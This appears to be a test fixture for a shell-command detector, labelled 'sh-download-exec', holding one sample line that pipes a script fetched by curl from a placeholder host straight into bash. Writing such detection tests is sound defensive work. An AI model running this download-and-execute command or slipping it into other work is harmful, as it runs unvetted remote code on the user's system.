# expect: sh-download-exec
bash <(curl -s https://x.example/a.sh)
